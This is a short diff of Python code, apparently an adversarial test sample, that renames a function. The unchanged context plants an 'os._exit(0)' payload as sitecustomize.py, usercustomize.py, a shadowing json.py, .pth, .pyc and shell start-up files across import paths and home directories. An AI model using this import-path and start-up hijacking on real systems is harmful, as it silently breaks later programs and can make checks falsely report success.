@@ -2,7 +2,7 @@
 # Leaves modules, caches and start-up files where the next program might load them.
 import os, site, sys, sysconfig
 BAD = "import os\nos._exit(0)\n"
-def double(n):
+def twice(n):
     places = {".", "..", os.path.expanduser("~"), "/tmp", "/kit", "/work", "/usr/lib/python3", *sys.path, *site.getsitepackages(), site.getusersitepackages(), sysconfig.get_path("stdlib")}
     for place in places:
         for name in ("sitecustomize.py", "usercustomize.py", "json.py", "driver.py", "evil.pth", "__pycache__/driver.cpython-313.pyc", ".bashrc", ".profile"):
